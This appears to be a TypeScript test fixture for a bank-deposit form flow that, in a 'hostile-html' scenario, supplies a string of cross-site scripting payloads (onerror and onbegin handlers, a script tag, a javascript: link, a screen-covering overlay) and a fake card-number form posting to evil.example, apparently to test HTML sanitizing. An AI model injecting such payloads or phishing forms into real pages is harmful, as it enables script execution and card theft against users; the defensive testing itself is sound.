import type { Deposit } from '../core/State';
import type { UnifiedFlow } from '../wire';
import { unifiedFields } from './extraFields';

const DESCRIPTION =
  '<p>Send the transfer from <b>your own account</b>, then fill in the form.</p><ul><li>The name must match your profile.</li><li><a href="https://bank.example/help" target="_blank">Help of the bank</a></li></ul>';

const HOSTILE = [
  '<p>Before</p><img src=x onerror="window.__sandboxHacked = 1">',
  '<script>window.__sandboxHacked = 2</script>',
  '<form action="https://evil.example"><input name="card" placeholder="Card number"><button>Pay</button></form>',
  '<a href="javascript:window.__sandboxHacked = 3" id="bad-link">link</a>',
  '<div style="position:fixed;inset:0;background:red">over all</div>',
  '<svg><animate onbegin="window.__sandboxHacked = 4" attributeName="x" dur="1s"></animate></svg><p>After</p>',
].join('');

export function unifiedFlow(
  deposit: Pick<Deposit, 'scenario'>,
  values: Record<string, string> = {},
): UnifiedFlow {
  return {
    title: 'Bank details',
    description: deposit.scenario === 'hostile-html' ? HOSTILE : DESCRIPTION,
    fields: unifiedFields(values),
    timeout_minutes: 15,
  };
}
